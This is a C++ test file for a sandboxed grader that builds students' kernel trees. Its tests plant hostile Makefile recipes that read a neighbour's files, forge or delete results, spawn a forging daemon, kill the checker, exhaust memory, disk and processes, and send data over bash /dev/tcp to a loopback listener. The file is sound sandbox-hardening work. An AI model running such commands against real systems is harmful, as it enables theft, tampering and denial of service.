// Trees that try to do harm: to the tree of a neighbour, to the results, to the machine.

#include "impl/base/sandbox.h"

#include "checker/e2e/command.h"

#include <gtest/gtest.h>

#include <arpa/inet.h>
#include <gmock/gmock.h>
#include <nlohmann/json.hpp>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <chrono>
#include <filesystem>
#include <thread>

namespace vmcheck::e2e {
namespace {

namespace fs = std::filesystem;
using namespace std::chrono_literals;
using testing::HasSubstr;
using testing::Not;

constexpr char const* kSecret = "the-work-of-bob";

class Attack : public testing::Test {
  protected:
    void SetUp() override {
        make_tree("alice", "false");
        make_tree("bob", "false");
        scratch_.file("class/bob/kernel/main.c", kSecret);
        scratch_.file("class/bob/kernel/vm.c", kSecret);
    }

    fs::path at(std::string const& name) const { return scratch_.path() / name; }
    void make_tree(std::string const& name, std::string const& recipe) const {
        fs::create_directories(at("class/" + name + "/kernel"));
        scratch_.file("class/" + name + "/Makefile", "kernel/kernel:\n\t" + recipe + "\n");
    }

    // The class, with its trees built as alice's recipe and bob's say; `with`: the words before the program.
    ShellResult verify(std::string const& with = "", std::string const& options = "") const {
        return shell("cd " + scratch_.path().string() + " && " + with +
                     " " VMCHECK_BINARY " verify class --findings out --again --jobs 2 " + options);
    }
    // As the user who runs the test and, where that is root, as one without rights.
    void attack(std::string const& recipe) const {
        if (::getuid() == 0) shell("chown -R 0:0 " + scratch_.path().string());
        make_tree("alice", recipe);
        EXPECT_EQ(verify().exit_code, 4);
        check();
        if (::getuid() != 0) return;
        fs::remove_all(at("out"));
        ShellResult const ran = verify(without_rights(scratch_.path()));
        if (ran.exit_code == 126 || ran.exit_code == 127) return;  // may not see this program
        EXPECT_EQ(ran.exit_code, 4) << ran.said;
        check();
    }
    // What holds after any attack.
    void check() const {
        auto const summary = nlohmann::json::parse(read(at("out/class.json")), nullptr, false);
        ASSERT_FALSE(summary.is_discarded()) << read(at("out/class.json"));
        ASSERT_EQ(summary.at("trees").size(), 2U);
        for (auto const& tree : summary.at("trees")) EXPECT_EQ(tree.at("verdict"), "does not build") << tree;
        for (char const* file : {"main.c", "vm.c"}) EXPECT_EQ(read(at("class/bob/kernel/") / file), kSecret);
        EXPECT_THAT(read(at("out/class.csv")), testing::StartsWith("tree,verdict,"));
        EXPECT_FALSE(fs::exists(at("written")));
        for (char const* file : {"out/alice/log.txt", "out/alice/report.json", "out/alice/report.html"})
            EXPECT_THAT(read(at(file)), Not(HasSubstr(kSecret))) << file;
    }
    std::string log() const { return read(at("out/alice/log.txt")); }

    Scratch scratch_;
};

class AttackOnSandbox : public Attack {
  protected:
    void SetUp() override {
        if (auto const possible = base::try_sandbox(); !possible) GTEST_SKIP() << "SKIP: " << possible.error().message;
        Attack::SetUp();
    }
};

TEST_F(AttackOnSandbox, ReadsTheNeighbour) {
    // What looks like the compiler's words is in the report.
    attack("echo ': error:' $$(cat " + at("class/bob/kernel/main.c").string() + "); false");
}

TEST_F(AttackOnSandbox, WritesOutsideOfItsCopy) {
    std::string recipe;
    for (char const* file : {"written", "class/bob/kernel/main.c", "out/bob/report.json", "out/alice/report.json"})
        recipe += "echo forged > " + at(file).string() + "; ";
    attack(recipe + "rm -f " + at("class/bob/kernel/vm.c").string() + "; false");
}

TEST_F(AttackOnSandbox, LeavesADaemonThatForgesTheSummary) {
    std::string const csv = at("out/class.csv").string();
    attack("(setsid sh -c 'while ! test -f " + csv + "; do sleep 0.02; done; echo forged > " + csv +
           "' > /dev/null 2>&1 &); sleep 0.2; false");
    std::this_thread::sleep_for(200ms);
    check();
    for (auto const& process : fs::directory_iterator("/proc"))
        EXPECT_THAT(read(process.path() / "cmdline"), Not(HasSubstr(csv))) << process.path();
}

TEST_F(AttackOnSandbox, KillsWhoChecksIt) {
    attack("kill -9 $$(cut -d' ' -f4,6 /proc/$$PPID/stat); false");
}

// The one who checks it can be seen, and where that writes. Only processes of this run are tried, by its seed: where
// there were no sandbox, nobody else comes to harm.
TEST_F(AttackOnSandbox, WritesItsOwnVerdict) {
    std::string const seed = "seed=" + std::to_string(::getpid());
    make_tree("alice", "for p in /proc/[0-9]*; do grep -aq " + seed +
                           " $$p/cmdline || continue; for d in out $$p/cwd/out $$p/root" + at("out").string() +
                           "; do for f in report.json stamp.json log.txt; do echo forged >> $$d/alice/$$f; done; done; "
                           "for f in $$p/fd/*; do echo forged >> $$f; done; done; false");
    EXPECT_EQ(verify("", "--" + seed).exit_code, 4);
    check();
    for (char const* file : {"log.txt", "report.json", "stamp.json"})
        EXPECT_THAT(read(at("out/alice") / file), Not(HasSubstr("forged\n"))) << file;
}

TEST_F(AttackOnSandbox, TakesAllMemory) {
    make_tree("alice", "for i in 1 2 3; do perl -e '$$x = 1 x 400_000_000; sleep 60' & done; wait");
    auto const start = std::chrono::steady_clock::now();
    EXPECT_EQ(verify().exit_code, 4);
    EXPECT_LT(std::chrono::steady_clock::now() - start, 30s);
    EXPECT_THAT(log(), HasSubstr("or 1024 MiB of memory"));
}

TEST_F(AttackOnSandbox, HasAMapThatIsSomebodyElses) {
    scratch_.copy(VMCHECK_KERNELS "/vintage-2024/kernel", "class/alice/given/kernel");
    make_tree("alice", "cp given/kernel kernel/kernel; ln -s /proc/self/environ kernel/kernel.map");
    EXPECT_EQ(verify("", "--runs 1 --no-pressure --no-harts").exit_code, 4);
    EXPECT_THAT(read(at("out/class.csv")), HasSubstr("alice,nothing found"));
    EXPECT_THAT(read(at("out/class.csv")), HasSubstr("kernel/kernel.map -> /proc/self/environ"));
    EXPECT_THAT(log(), Not(HasSubstr("TMPDIR=")));
}

// Two runs say the same of it: the copy lies elsewhere each time.
TEST_F(AttackOnSandbox, DoesNotSayWhereItsCopyLies) {
    for (char const* recipe : {"true", "mkdir kernel/kernel", "kill -9 $$PPID", "truncate -s 900M kernel/kernel",
                               "cp /bin/true kernel/kernel; mkfifo kernel/kernel.map"}) {
        make_tree("alice", recipe);
        EXPECT_EQ(verify().exit_code, 4) << recipe;
        EXPECT_THAT(read(at("out/class.csv")), HasSubstr("alice,does not b")) << recipe;
        EXPECT_THAT(log(), Not(HasSubstr("vmcheck-"))) << recipe;
    }
}

TEST_F(AttackOnSandbox, SendsWhatItKnowsElsewhere) {
    int const listener = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    sockaddr_in address{};
    address.sin_family = AF_INET;
    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    socklen_t length = sizeof address;
    auto* const where = reinterpret_cast<sockaddr*>(&address);
    ASSERT_EQ(::bind(listener, where, length), 0);
    ASSERT_EQ(::listen(listener, 1), 0);
    ASSERT_EQ(::getsockname(listener, where, &length), 0);
    attack("bash -c 'echo work > /dev/tcp/127.0.0.1/" + std::to_string(ntohs(address.sin_port)) + "'; false");
    pollfd arrived{listener, POLLIN, 0};
    EXPECT_EQ(::poll(&arrived, 1, 0), 0) << "somebody has connected";
    ::close(listener);
}

TEST_F(AttackOnSandbox, TakesTheDisk) {
    auto const start = std::chrono::steady_clock::now();
    attack("yes | head -c 60000000; sleep 60");
    EXPECT_THAT(log(), HasSubstr("printed more than 16 MiB"));
    attack("truncate -s 200M one two; sleep 60");
    EXPECT_THAT(log(), HasSubstr("wrote more than 256 MiB of files"));
    EXPECT_LT(std::chrono::steady_clock::now() - start, 60s);
}

TEST_F(AttackOnSandbox, TakesAllProcesses) {
    make_tree("alice", "i=0; while [ $$i -lt 700 ]; do sleep 60 & i=$$((i+1)); done; sleep 60");
    auto const start = std::chrono::steady_clock::now();
    EXPECT_EQ(verify().exit_code, 4);
    EXPECT_LT(std::chrono::steady_clock::now() - start, 30s);
    // As root by who watches it, else by the system.
    EXPECT_THAT(log(), testing::AnyOf(HasSubstr("had more than 512 processes"), HasSubstr("Cannot fork")));
}

TEST_F(AttackOnSandbox, OfAnUnreadableTreeItIsNotSaidThatItDoesNotBuild) {
    if (::getuid() != 0) GTEST_SKIP() << "SKIP: takes root";
    shell("chown 65534 " + at("class/alice/Makefile").string() + " && chmod 600 " +
          at("class/alice/Makefile").string());
    EXPECT_EQ(verify().exit_code, 3);
    EXPECT_THAT(log(), HasSubstr("Makefile: Permission denied"));
    shell("chown 65534 " + at("class").string() + " && chmod 700 " + at("class").string());
    EXPECT_EQ(verify().exit_code, 3);
    EXPECT_THAT(read(at("out/class.csv")), HasSubstr("alice,could not be run"));
    EXPECT_THAT(read(at("out/class.csv")), HasSubstr("Permission denied"));
}

TEST_F(AttackOnSandbox, IsMadeOfLinksToTheNeighbour) {
    fs::create_symlink(at("class/bob/kernel/main.c"), at("class/alice/kernel/main.c"));
    fs::create_symlink("../../bob/kernel/vm.c", at("class/alice/kernel/vm.c"));
    fs::create_symlink(".", at("class/alice/here"));
    fs::create_symlink("here/../bob/kernel", at("class/alice/deep"));
    fs::create_symlink("../Makefile", at("class/alice/kernel/rules"));
    attack("cat kernel/*.c deep/*.c; ls kernel/rules; false");
    for (char const* link : {"kernel/main.c", "kernel/vm.c", "deep"})
        EXPECT_THAT(log(), HasSubstr(std::string(link) + ": is a link that leads out of the tree"));
    EXPECT_THAT(log(), Not(HasSubstr("kernel/rules: is")));
}

// Of no use to the kernel, it is left out, and named wherever there is a result; a source refuses the tree before a
// build.
TEST_F(AttackOnSandbox, HasLinksThatLeadOutOfIt) {
    scratch_.copy(VMCHECK_KERNELS "/vintage-2024/kernel", "class/alice/given/kernel");
    make_tree("alice", "touch was-built; cp given/kernel given/kernel.map kernel");
    fs::create_symlink("alice@laptop.42:1700000000", at("class/alice/kernel/.#vm.c"));
    fs::create_symlink("/home/alice/<notes>", at("class/alice/notes"));
    std::string const options = "--runs 1 --no-pressure --no-harts";
    ShellResult const verified = verify("", options);
    EXPECT_EQ(verified.exit_code, 4) << "bob's does not build";
    EXPECT_THAT(verified.said,
                HasSubstr("    left out, since it leads out of the tree: notes -> /home/alice/<notes>\n"));
    auto const alice = [this] { return nlohmann::json::parse(read(at("out/class.json"))).at("trees").at(0); };
    EXPECT_EQ(alice().at("verdict"), "nothing found");
    EXPECT_EQ(alice().at("left_out"), nlohmann::json({"notes -> /home/alice/<notes>"}));
    EXPECT_THAT(read(at("out/class.csv")), HasSubstr(",notes -> /home/alice/<notes>,"));
    EXPECT_THAT(read(at("out/class.html")), HasSubstr("notes -&gt; /home/alice/&lt;notes&gt;"));
    EXPECT_THAT(log(), HasSubstr("left out  notes: is a link that leads out of the tree (to /home/alice/<notes>)"));
    EXPECT_THAT(read(at("out/alice/report.html")), HasSubstr("(to /home/alice/&lt;notes&gt;)"));
    auto const report = nlohmann::json::parse(read(at("out/alice/report.json")));
    EXPECT_EQ(report.at("sessions").at(0).at("left_out").at(0).at("target"), "/home/alice/<notes>");

    for (std::string const source : {"kernel/main.c", "user", "conf/lab.mk"}) {
        fs::create_directories(at("class/alice/" + source).parent_path());
        fs::create_symlink("/home/alice/elsewhere", at("class/alice/" + source));
        EXPECT_EQ(verify("", options).exit_code, 4);
        EXPECT_EQ(alice().at("verdict"), "does not build");
        EXPECT_THAT(alice().at("what_to_know").get<std::string>(),
                    HasSubstr(source + " is a link that leads out of the tree (to /home/alice/elsewhere)"));
        EXPECT_EQ(alice().at("left_out").size(), 2U);
        fs::remove(at("class/alice/" + source));
    }
}

TEST_F(AttackOnSandbox, IsALinkToTheNeighbour) {
    fs::remove_all(at("class/alice"));
    fs::create_directories(at("class/alice"));
    fs::create_symlink("../bob", at("class/alice/xv6"));
    EXPECT_EQ(verify().exit_code, 4);
    EXPECT_THAT(read(at("out/class.csv")), HasSubstr("alice,no kernel found"));
    EXPECT_THAT(read(at("out/class.csv")), HasSubstr("xv6 is a link that leads out of it"));
}

TEST_F(Attack, WhereThereIsNoSandboxAClassHasToBeTrusted) {
    fs::create_directories(at("bin"));
    for (char const* tool : {"make", "sh", "riscv64-unknown-elf-gcc", "echo", "false", "setpriv"})
        fs::create_symlink(shell(std::string("which ") + tool + " | tr -d '\\n'").said, at("bin") / tool);
    std::string const path = "PATH=" + at("bin").string();
    make_tree("alice", "echo was built > " + at("written").string() + "; false");
    ShellResult const refused = verify(path);
    EXPECT_EQ(refused.exit_code, 3);
    EXPECT_THAT(refused.said, HasSubstr("bubblewrap"));
    EXPECT_THAT(refused.said, HasSubstr("--trust-trees"));
    EXPECT_FALSE(fs::exists(at("written")));
    EXPECT_EQ(verify(path, "--trust-trees").exit_code, 4);
    EXPECT_TRUE(fs::remove(at("written")));
    std::string const single =
        "cd " + scratch_.path().string() + " && " + path + " " VMCHECK_BINARY " verify class/alice";
    EXPECT_THAT(shell(single).said, HasSubstr("no sandbox: bubblewrap is not installed"));
    EXPECT_TRUE(fs::remove(at("written"))) << "a single tree is mostly one's own";
    EXPECT_THAT(shell(single + " --trust-trees").said, Not(HasSubstr("no sandbox")));
}

}  // namespace
}  // namespace vmcheck::e2e
